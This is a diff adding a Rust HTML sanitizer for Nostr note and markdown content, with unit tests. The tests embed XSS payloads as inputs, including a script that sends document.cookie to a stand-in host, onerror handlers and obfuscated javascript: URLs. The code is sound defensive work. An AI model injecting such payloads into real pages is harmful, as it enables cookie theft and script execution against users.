@@ -0,0 +1,477 @@
+//! Sanitizing untrusted HTML and note content
+//!
+//! Notes come from arbitrary Nostr relays and markdown cells may hold raw
+//! HTML, so anything rendered with `innerHTML` goes through an allowlist
+//! first. Scripts and similar elements are dropped with their content,
+//! unknown elements are unwrapped, and only attributes needed by
+//! markdown-derived HTML survive, with link targets limited to safe schemes.
+
+use crate::editor::render_markdown_html;
+
+/// Elements removed together with everything inside them
+const DROPPED_ELEMENTS: &[&str] = &[
+    "script", "style", "iframe", "frame", "frameset", "object", "embed", "template", "noscript",
+    "textarea", "title", "svg", "math",
+];
+
+/// Elements markdown renders to, kept with their allowed attributes
+const ALLOWED_ELEMENTS: &[&str] = &[
+    "a",
+    "abbr",
+    "b",
+    "blockquote",
+    "br",
+    "code",
+    "dd",
+    "del",
+    "div",
+    "dl",
+    "dt",
+    "em",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "hr",
+    "i",
+    "img",
+    "input",
+    "kbd",
+    "li",
+    "ol",
+    "p",
+    "pre",
+    "s",
+    "span",
+    "strong",
+    "sub",
+    "sup",
+    "table",
+    "tbody",
+    "td",
+    "tfoot",
+    "th",
+    "thead",
+    "tr",
+    "u",
+    "ul",
+];
+
+/// URL schemes links and images may use; relative URLs are always allowed
+const SAFE_SCHEMES: &[&str] = &["http", "https", "mailto", "nostr"];
+
+/// Remove scripts, event handlers and unsafe URLs from `html`
+///
+/// A `<` that doesn't start a tag is escaped, so the result never opens
+/// an element that wasn't vetted.
+pub fn sanitize_html(html: &str) -> String {
+    let mut out = String::with_capacity(html.len());
+    let mut rest = html;
+    while let Some(start) = rest.find('<') {
+        out.push_str(&rest[..start]);
+        rest = &rest[start..];
+        if let Some(comment) = rest.strip_prefix("<!--") {
+            rest = comment.find("-->").map_or("", |end| &comment[end + 3..]);
+            continue;
+        }
+        if rest.starts_with("<!") || rest.starts_with("<?") {
+            rest = rest.find('>').map_or("", |end| &rest[end + 1..]);
+            continue;
+        }
+        let Some(tag) = Tag::parse(rest) else {
+            out.push_str("&lt;");
+            rest = &rest[1..];
+            continue;
+        };
+        rest = &rest[tag.len..];
+        if DROPPED_ELEMENTS.contains(&tag.name.as_str()) {
+            if !tag.closing && !tag.self_closing {
+                rest = skip_element(rest, &tag.name);
+            }
+            continue;
+        }
+        if ALLOWED_ELEMENTS.contains(&tag.name.as_str()) {
+            tag.render(&mut out);
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+/// Render markdown note content to HTML that is safe to display
+///
+/// Rendered by [`render_markdown_html`], so code spans and blocks keep
+/// their text and raw HTML and link destinations pass through
+/// [`sanitize_html`].
+pub fn sanitize_note_content(content: &str) -> String {
+    render_markdown_html(content)
+}
+
+/// Whether a link or image URL is relative or uses a safe scheme
+///
+/// Entities are decoded and whitespace and control characters removed
+/// first, so `jav&#x09;ascript:` and `&#106avascript:` are caught the way
+/// a browser would read them.
+pub fn is_safe_url(url: &str) -> bool {
+    let decoded: String = decode_entities(url)
+        .chars()
+        .filter(|c| !c.is_whitespace() && !c.is_control())
+        .collect::<String>()
+        .to_ascii_lowercase();
+    match url_scheme(&decoded) {
+        Some(scheme) => SAFE_SCHEMES.contains(&scheme),
+        None => true,
+    }
+}
+
+/// The scheme of `url`: whatever comes before a `:` that appears ahead
+/// of any `/`, `?` or `#`
+///
+/// This is looser than the URL spec's `[a-z][a-z0-9+.-]*`, so a prefix
+/// that isn't a valid scheme is still checked against [`SAFE_SCHEMES`]
+/// rather than passed as a relative URL.
+fn url_scheme(url: &str) -> Option<&str> {
+    let end = url.find([':', '/', '?', '#'])?;
+    url[end..].starts_with(':').then(|| &url[..end])
+}
+
+/// A start or end tag
+struct Tag {
+    /// Lowercased element name
+    name: String,
+    closing: bool,
+    self_closing: bool,
+    /// Lowercased attribute names with their raw values
+    attributes: Vec<(String, Option<String>)>,
+    /// Length of the tag's source, including `<` and `>`
+    len: usize,
+}
+
+impl Tag {
+    /// Parse the tag at the start of `text`, which begins with `<`
+    fn parse(text: &str) -> Option<Tag> {
+        let bytes = text.as_bytes();
+        let mut i = 1;
+        let closing = bytes.get(i) == Some(&b'/');
+        if closing {
+            i += 1;
+        }
+        if !bytes.get(i)?.is_ascii_alphabetic() {
+            return None;
+        }
+        let name_start = i;
+        while bytes.get(i).is_some_and(|b| b.is_ascii_alphanumeric()) {
+            i += 1;
+        }
+        let name = text[name_start..i].to_ascii_lowercase();
+
+        let mut attributes = Vec::new();
+        let mut self_closing = false;
+        loop {
+            match *bytes.get(i)? {
+                b'>' => break,
+                b'/' => {
+                    self_closing = true;
+                    i += 1;
+                }
+                b if b.is_ascii_whitespace() => i += 1,
+                _ => {
+                    self_closing = false;
+                    let start = i;
+                    while bytes
+                        .get(i)
+                        .is_some_and(|b| !b.is_ascii_whitespace() && !b"=>/".contains(b))
+                    {
+                        i += 1;
+                    }
+                    if i == start {
+                        // A stray `=`
+                        i += 1;
+                        continue;
+                    }
+                    let attribute = text[start..i].to_ascii_lowercase();
+                    while bytes.get(i).is_some_and(u8::is_ascii_whitespace) {
+                        i += 1;
+                    }
+                    let mut value = None;
+                    if bytes.get(i) == Some(&b'=') {
+                        i += 1;
+                        while bytes.get(i).is_some_and(u8::is_ascii_whitespace) {
+                            i += 1;
+                        }
+                        let (start, end) = match *bytes.get(i)? {
+                            quote @ (b'"' | b'\'') => {
+                                let end = i + 1 + text[i + 1..].find(quote as char)?;
+                                (i + 1, end)
+                            }
+                            _ => {
+                                let end = text[i..]
+                                    .find(|c: char| c.is_ascii_whitespace() || c == '>')
+                                    .map_or(text.len(), |n| i + n);
+                                (i, end)
+                            }
+                        };
+                        value = Some(text[start..end].to_string());
+                        i = if end < text.len() && matches!(bytes[end], b'"' | b'\'') {
+                            end + 1
+                        } else {
+                            end
+                        };
+                    }
+                    attributes.push((attribute, value));
+                }
+            }
+        }
+        Some(Tag {
+            name,
+            closing,
+            self_closing,
+            attributes,
+            len: i + 1,
+        })
+    }
+
+    /// Write the tag with only its allowed attributes
+    fn render(&self, out: &mut String) {
+        if self.closing {
+            out.push_str(&format!("</{}>", self.name));
+            return;
+        }
+        let value = |name: &str| {
+            self.attributes
+                .iter()
+                .find(|(n, _)| n == name)
+                .and_then(|(_, v)| v.as_deref())
+        };
+        if self.name == "input"
+            && value("type").map(str::to_ascii_lowercase).as_deref() != Some("checkbox")
+        {
+            return;
+        }
+        out.push('<');
+        out.push_str(&self.name);
+        for (name, value) in &self.attributes {
+            let value = value.as_deref().unwrap_or("");
+            if !attribute_allowed(&self.name, name, value) {
+                continue;
+            }
+            out.push_str(&format!(" {}=\"{}\"", name, escape_attribute(value)));
+        }
+        if self.self_closing {
+            out.push_str(" /");
+        }
+        out.push('>');
+    }
+}
+
+/// Whether `name="value"` may stay on an `element`
+///
+/// Event handlers (`on*`) and `style`, apart from table alignment, are
+/// never allowed.
+fn attribute_allowed(element: &str, name: &str, value: &str) -> bool {
+    match name {
+        "class" | "title" | "data-math" => true,
+        "href" => element == "a" && is_safe_url(value),
+        "src" => element == "img" && is_safe_url(value),
+        "alt" | "width" | "height" => element == "img",
+        "type" | "checked" | "disabled" => element == "input",
+        "start" => element == "ol",
+        "align" => matches!(element, "th" | "td"),
+        "style" => {
+            matches!(element, "th" | "td")
+                && matches!(
+                    value.trim().trim_end_matches(';'),
+                    "text-align: left" | "text-align: center" | "text-align: right"
+                )
+        }
+        _ => false,
+    }
+}
+
+/// Skip past the end tag of `name`, or to the end if it's never closed
+fn skip_element<'a>(text: &'a str, name: &str) -> &'a str {
+    let lower = text.to_ascii_lowercase();
+    let close = format!("</{}", name);
+    let mut from = 0;
+    while let Some(found) = lower[from..].find(&close) {
+        let after = from + found + close.len();
+        match lower.as_bytes().get(after) {
+            Some(b) if b.is_ascii_alphanumeric() => from = after,
+            _ => {
+                return lower[after..]
+                    .find('>')
+                    .map_or("", |end| &text[after + end + 1..])
+            }
+        }
+    }
+    ""
+}
+
+/// Decode numeric character references and the few named ones used to
+/// hide URL schemes
+///
+/// As in browsers, the closing `;` is optional and a numeric reference
+/// ends at its last digit, so `&#106avascript:` decodes to `javascript:`.
+fn decode_entities(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(amp) = rest.find('&') {
+        out.push_str(&rest[..amp]);
+        rest = &rest[amp..];
+        let (decoded, end) = match rest[1..].strip_prefix('#') {
+            Some(number) => {
+                let (digits, radix, start) = match number.strip_prefix(['x', 'X']) {
+                    Some(hex) => (hex, 16, 3),
+                    None => (number, 10, 2),
+                };
+                let len = digits
+                    .find(|c: char| !c.is_digit(radix))
+                    .unwrap_or(digits.len());
+                let decoded = (len > 0).then(|| {
+                    u32::from_str_radix(&digits[..len], radix)
+                        .ok()
+                        .and_then(char::from_u32)
+                        .unwrap_or(char::REPLACEMENT_CHARACTER)
+                });
+                (decoded, start + len)
+            }
+            None => {
+                let end = rest[1..]
+                    .find(|c: char| !c.is_ascii_alphanumeric())
+                    .map_or(rest.len(), |n| n + 1);
+                (named_entity(&rest[1..end]), end)
+            }
+        };
+        match decoded {
+            Some(c) => {
+                out.push(c);
+                rest = rest[end..].strip_prefix(';').unwrap_or(&rest[end..]);
+            }
+            None => {
+                out.push('&');
+                rest = &rest[1..];
+            }
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+fn named_entity(name: &str) -> Option<char> {
+    match name.to_ascii_lowercase().as_str() {
+        "colon" => Some(':'),
+        "tab" => Some('\t'),
+        "newline" => Some('\n'),
+        "sol" => Some('/'),
+        _ => None,
+    }
+}
+
+fn escape_attribute(value: &str) -> String {
+    value
+        .replace('"', "&quot;")
+        .replace('<', "&lt;")
+        .replace('>', "&gt;")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn drops_script_elements() {
+        assert_eq!(
+            sanitize_html("<p>Totals</p><script>fetch('https://evil.example?c=' + document.cookie)</script><p>done</p>"),
+            "<p>Totals</p><p>done</p>"
+        );
+        assert_eq!(sanitize_html("a<SCRIPT src=x.js></script >b"), "ab");
+        assert_eq!(sanitize_html("<script>alert(1)"), "");
+    }
+
+    #[test]
+    fn strips_event_handlers_and_javascript_urls() {
+        assert_eq!(
+            sanitize_html(r#"<img src="x" onerror="alert(1)" alt="chart">"#),
+            r#"<img src="x" alt="chart">"#
+        );
+        assert_eq!(
+            sanitize_html(r#"<a href="jav&#x09;ascript:alert(1)" onclick='steal()'>budget</a>"#),
+            "<a>budget</a>"
+        );
+        assert_eq!(
+            sanitize_html(r#"<a href="https://fcps.org/budget">FCPS</a>"#),
+            r#"<a href="https://fcps.org/budget">FCPS</a>"#
+        );
+    }
+
+    #[test]
+    fn keeps_markdown_html() {
+        let html = "<table><thead><tr><th style=\"text-align: right\">Spend</th></tr></thead></table>\n\
+                    <ul>\n<li><input disabled=\"\" type=\"checkbox\" />\nTODO</li>\n</ul>\n\
+                    <p><span class=\"math math-inline\" data-math=\"0\"></span> &amp; a &lt; b</p>\n";
+        assert_eq!(sanitize_html(html), html);
+        assert_eq!(
+            sanitize_html("<custom-el>text</custom-el> 1 < 2"),
+            "text 1 &lt; 2"
+        );
+    }
+
+    #[test]
+    fn sanitizes_note_markdown() {
+        let note = "See [the data](javascript:alert(1)) and [FCPS](https://fcps.org).\n\
+                    <img src=x onerror=alert(1)>\n\n\
+                    [ref][r]\n\n\
+                    [r]: JAVASCRIPT:alert(1)";
+        assert_eq!(
+            sanitize_note_content(note),
+            "<p>See <a>the data</a> and <a href=\"https://fcps.org\">FCPS</a>.\n\
+             <img src=\"x\"></p>\n<p><a>ref</a></p>\n"
+        );
+    }
+
+    #[test]
+    fn sanitizes_spaced_link_destinations() {
+        for note in [
+            "[x]( javascript:alert(1))",
+            "[x](\njavascript:alert(1))",
+            "[x](<javascript:alert(1)>)",
+        ] {
+            let html = sanitize_note_content(note);
+            assert!(!html.contains("javascript"), "{note:?} -> {html}");
+            assert!(html.contains("<a>x</a>"), "{note:?} -> {html}");
+        }
+    }
+
+    #[test]
+    fn decodes_references_without_semicolons() {
+        for href in [
+            "&#106avascript:alert(1)",
+            "&#x6Aavascript:alert(1)",
+            "&#0000106&#0000097vascript:alert(1)",
+            "javascript&#58alert(1)",
+        ] {
+            assert!(!is_safe_url(href), "{href}");
+            let html = format!("<a href=\"{}\">x</a>", href);
+            assert_eq!(sanitize_html(&html), "<a>x</a>");
+            assert_eq!(sanitize_note_content(&html), "<p><a>x</a></p>\n");
+        }
+        assert!(is_safe_url("budget.html#2024:q1"));
+        assert!(is_safe_url("/notebooks?id=a:b"));
+        assert!(!is_safe_url("data:text/html,x"));
+        assert!(!is_safe_url("vbscript:x"));
+    }
+
+    #[test]
+    fn keeps_code_text_in_notes() {
+        let note = "Filter with:\n\n```sql\nSELECT * FROM budget WHERE a < b\n```\n\n\
+                    Parse into `Vec<u8>` first.";
+        assert_eq!(
+            sanitize_note_content(note),
+            "<p>Filter with:</p>\n\
+             <pre><code class=\"language-sql\">SELECT * FROM budget WHERE a &lt; b\n</code></pre>\n\
+             <p>Parse into <code>Vec&lt;u8&gt;</code> first.</p>\n"
+        );
+    }
+}